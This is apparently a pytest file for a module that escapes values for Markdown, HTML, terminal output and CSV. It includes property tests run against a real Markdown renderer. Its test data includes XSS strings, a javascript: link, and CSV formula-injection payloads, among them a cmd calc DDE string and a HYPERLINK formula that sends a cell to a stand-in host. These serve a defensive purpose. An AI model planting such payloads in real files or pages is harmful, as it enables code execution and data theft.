"""Escaping for Markdown and CSV (confcal._markdown): hand-worked cases and a real renderer.

The property tests render the escaped text with markdown-it-py (CommonMark with raw HTML
*enabled* and the GFM table and strikethrough rules on, the most permissive common setup) and
parse the HTML it produces: the only tags are the ones the surrounding Markdown asked for,
never a link or an image, and the text the reader sees is the value itself.
"""

from __future__ import annotations

import csv
import io
import unicodedata
from html.parser import HTMLParser

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from _profiles import examples
from confcal._markdown import (
    CSV_FORMULA_PREFIXES,
    csv_cell,
    csv_safe_frame,
    escape_cell,
    escape_html,
    escape_text,
    markdown_table,
    terminal_text,
    write_csv,
)

markdown_it = pytest.importorskip("markdown_it")


def _renderer():
    return markdown_it.MarkdownIt("commonmark", {"html": True}).enable(
        ["table", "strikethrough"])


class _Tags(HTMLParser):
    """Tags, attributes and text (per innermost cell) of an HTML fragment."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str | None]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs += attrs

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_data(self, data):
        self.text.append(data)

    def handle_comment(self, data):
        self.tags.append("!--")


def _parse(rendered: str) -> _Tags:
    parser = _Tags()
    parser.feed(rendered)
    parser.close()
    return parser


def _expected(value: str) -> str:
    """What the reader must see: rules 3 and 4 of the module, written out independently."""
    bidi = {chr(c) for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))}
    shown = "".join(
        ch if ch.isspace() else
        "\ufffd" if (ch in bidi or 0xD800 <= ord(ch) <= 0xDFFF
                     or unicodedata.category(ch) == "Cc") else ch
        for ch in value)
    return " ".join(shown.split())


# ------------------------------------------------------------------ hand-worked cases
@pytest.mark.parametrize(("value", "cell"), [
    ("<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)&gt;"),
    # the image loses its opening bracket, so it is text: ! \[ \] (url)
    ("![](http://example.com/t.png)", "!\\[\\](http://example.com/t.png)"),
    ("[click](javascript:alert(1))", "\\[click\\](javascript:alert(1))"),
    ("<http://example.com>", "&lt;http://example.com&gt;"),
    # a pipe and a carriage return would split the row: \| and one space
    ("a|b\r\nc", "a\\|b c"),
    ("C:\\temp\\", "C:\\\\temp\\\\"),
    ("`code`", "\\`code\\`"),
    ("**bold** _it_ ~~del~~", "\\*\\*bold\\*\\* \\_it\\_ \\~\\~del\\~\\~"),
    ("# heading", "\\# heading"),
    ("AT&T &lt;", "AT&amp;T &amp;lt;"),
    ("a\x00b\u202ec", "a\ufffdb\ufffdc"),
    ("lone \ud800 surrogate", "lone \ufffd surrogate"),
    ("  spaced \t out  ", "spaced out"),
    (-0.5, "-0.5"),
    ("- 0.5", "- 0.5"),  # a cell is inline content: no list can start there
    (None, "None"),
])
def test_escape_cell_hand_worked(value, cell):
    assert escape_cell(value) == cell


@pytest.mark.parametrize(("value", "text"), [
    ("- item", "\\- item"),
    ("---", "\\---"),  # only the first dash: "\---" is no thematic break
    ("+ item", "\\+ item"),
    ("=====", "\\====="),
    ("1. step", "1\\. step"),
    ("12) step", "12\\) step"),
    ("1.5 is a number", "1.5 is a number"),
    ("> quote", "&gt; quote"),
    ("## title ##", "\\#\\# title \\#\\#"),
    ("-0.5", "\\-0.5"),
])
def test_escape_text_block_markers(value, text):
    assert escape_text(value) == text


def test_escape_text_renders_block_markers_as_text():
    md = _renderer()
    for value in ["- item", "---", "+ x", "=====", "1. step", "3) step", "> quote", "# h",
                  "    indented code", "```", "<div>", "<!-- c -->", "[a]: http://x"]:
        rendered = md.render(escape_text(value) + "\n")
        parsed = _parse(rendered)
        assert parsed.tags == ["p"], (value, rendered)
        assert "".join(parsed.text).strip() == " ".join(value.split())


def test_markdown_table_rejects_ragged_rows():
    with pytest.raises(ValueError, match="rows must have 2 cells like columns; row 1 has 1"):
        markdown_table(["a", "b"], [["1", "2"], ["3"]])


def test_markdown_table_shape_survives_hostile_cells():
    md = _renderer()
    table = markdown_table(["run", "value"], [["a|b\rc", "<td>x</td>"], ["\\|", "`|`"]])
    parsed = _parse(md.render(table))
    # 2 header cells + 2 rows of 2 cells, nothing more
    assert parsed.tags.count("td") == 4 and parsed.tags.count("th") == 2
    assert parsed.tags.count("tr") == 3


# ------------------------------------------------------------------ property tests
_HOSTILE = st.sampled_from([
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "![](http://x/a.png)",
    "![a][r]", "[r]: http://x", "[a](http://x)", "<http://x>", "<a@b.c>", "&lt;", "&#60;",
    "&#x3C;", "<!--", "-->", "<![CDATA[", "]]>", "\\", "\\|", "|", "`", "```", "*", "_",
    "~~", "#", "-", "+", "=", "1. ", "1) ", "> ", "\r", "\n", "\r\n", "\t", "\u2028",
    "\x00", "\x1b", "\u202e", "\ud800", " ", "    ", "a", "0", ".", "(", ")", ":", "\"",
    "'", "<", ">", "&", "!", "[", "]", "{", "}", "javascript:", "http://", "www.x.org",
])
_VALUES = st.one_of(st.lists(_HOSTILE, max_size=12).map("".join), st.text(max_size=40))
_TABLE_TAGS = {"table", "thead", "tbody", "tr", "th", "td"}


@settings(max_examples=examples(300), deadline=None)
@given(_VALUES, _VALUES)
def test_table_cells_render_as_their_text(left, right):
    md = _renderer()
    rendered = md.render(markdown_table(["x", "y"], [[left, right]]) + "\n")
    parsed = _parse(rendered)
    assert set(parsed.tags) <= _TABLE_TAGS, rendered
    assert parsed.tags.count("td") == 2 and parsed.tags.count("tr") == 2, rendered
    assert not parsed.attrs, rendered  # no src, href, onerror, style
    cells = [t for t in rendered.split("<td>")[1:]]
    shown = [_parse(c.split("</td>")[0]).text for c in cells]
    assert ["".join(s) for s in shown] == [_expected(left), _expected(right)]


@settings(max_examples=examples(300), deadline=None)
@given(_VALUES, st.sampled_from(["", "# ", "## ", "> ", "- "]))
def test_text_renders_as_its_text(value, prefix):
    md = _renderer()
    rendered = md.render("\n" + prefix + escape_text(value) + "\n")
    parsed = _parse(rendered)
    allowed = {"": {"p"}, "# ": {"h1"}, "## ": {"h2"}, "> ": {"blockquote", "p"},
               "- ": {"ul", "li"}}[prefix]
    assert set(parsed.tags) <= allowed, rendered
    assert "a" not in parsed.tags and "img" not in parsed.tags
    assert not parsed.attrs, rendered
    assert "".join(parsed.text).strip() == _expected(value), rendered


@settings(max_examples=examples(200), deadline=None)
@given(_VALUES)
def test_escaped_text_is_one_encodable_line(value):
    for escaped in (escape_text(value), escape_cell(value)):
        assert "\n" not in escaped and "\r" not in escaped
        escaped.encode("utf-8")  # no lone surrogate left


# ------------------------------------------------------------------ CSV policy
@pytest.mark.parametrize(("value", "safe"), [
    ("=1+1", "'=1+1"),
    ("+1+1", "'+1+1"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("=HYPERLINK(\"http://x/?\"&A1)", "'=HYPERLINK(\"http://x/?\"&A1)"),
    # numbers stay numbers: text that is a plain decimal number is no formula
    ("-0.5", "-0.5"), ("+1e-3", "+1e-3"), ("-inf", "-inf"), ("-.5", "-.5"),
    ("-", "'-"), ("-1-1", "'-1-1"),
    ("'=already", "'=already"), ("plain", "plain"), ("a=b", "a=b"),
    (-0.5, -0.5), (3, 3), (None, None),
])
def test_csv_cell_policy(value, safe):
    assert csv_cell(value) == safe


def test_csv_safe_frame_keeps_numbers_and_original():
    frame = pd.DataFrame({"run": ["=1+1", "ok", None], "=ece": [-0.5, 0.1, float("nan")],
                          "mixed": ["@x", -0.25, 3]})
    safe = csv_safe_frame(frame)
    assert frame.loc[0, "run"] == "=1+1"  # not modified in place
    assert list(safe.columns) == ["run", "'=ece", "mixed"]
    assert safe["run"].tolist()[:2] == ["'=1+1", "ok"]
    assert safe["'=ece"].dtype == frame["=ece"].dtype
    assert safe["mixed"].tolist() == ["'@x", -0.25, 3]
    rows = list(csv.reader(io.StringIO(safe.to_csv(index=False))))
    assert rows[1] == ["'=1+1", "-0.5", "'@x"]
    # no written cell starts a formula unless it is a number
    for row in rows:
        for cell in row:
            if cell.startswith(CSV_FORMULA_PREFIXES):
                float(cell)


@settings(max_examples=examples(200), deadline=None)
@given(st.text(max_size=20))
def test_csv_cell_never_leaves_a_formula(value):
    safe = csv_cell(value)
    if safe.startswith(CSV_FORMULA_PREFIXES):
        float(safe)  # only a plain number may start with - or +
    assert safe in (value, "'" + value)


@settings(max_examples=examples(100), deadline=None)
@given(st.lists(st.text(st.characters(exclude_categories=("Cs",)), min_size=1), min_size=1,
                max_size=5))
def test_write_csv_reads_back_every_cell_whole(cells):
    # a lone \r, a \n, a NUL or a quote stays inside its cell: one row per value, lossless
    frame = pd.DataFrame({"cell": cells, "n": range(len(cells))})
    back = pd.read_csv(io.StringIO(write_csv(frame, neutralise=False)), dtype={"cell": str},
                       keep_default_na=False, na_values=[])
    assert back["cell"].tolist() == cells
    assert back["n"].tolist() == list(range(len(cells)))


# ------------------------------------------------- HTML and the terminal: rule 4 too
_HIDDEN = ["\x00", "\x07", "\x1b", "\x7f", "\x9b", "\u061c", "\u200e", "\u200f",
           "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068",
           "\u2069", "\ud800"]


@pytest.mark.parametrize("ch", _HIDDEN)
def test_html_markdown_and_terminal_hide_the_same_characters(ch):
    assert escape_html(f"a{ch}b") == "a\ufffdb"
    assert escape_text(f"a{ch}b") == "a\ufffdb"
    shown = terminal_text(f"a{ch}b")
    assert ch not in shown and shown == "a" + repr(ch)[1:-1] + "b"  # as Python escapes it


def test_html_and_terminal_keep_their_whitespace():
    assert escape_html("a\tb\nc\rd") == "a\tb\nc\rd"
    assert terminal_text("a\tb\nc") == "a\tb\nc"
    assert terminal_text("over\rwrite") == "over\\x0dwrite"  # a CR would overwrite the line
    assert terminal_text("plain text, é and 中") == "plain text, é and 中"


@settings(max_examples=examples(300), deadline=None)
@given(st.text(max_size=60))
def test_terminal_text_leaves_nothing_a_terminal_acts_on(text):
    shown = terminal_text(text)
    assert not any(unicodedata.category(c) == "Cc" and c not in "\t\n" for c in shown)
    assert not any(c in "".join(_HIDDEN) for c in shown)
    if not any(unicodedata.category(c) in ("Cc", "Cs") and c not in "\t\n"
               or c in "".join(_HIDDEN) for c in text):
        assert shown == text  # nothing to hide: the text as it is
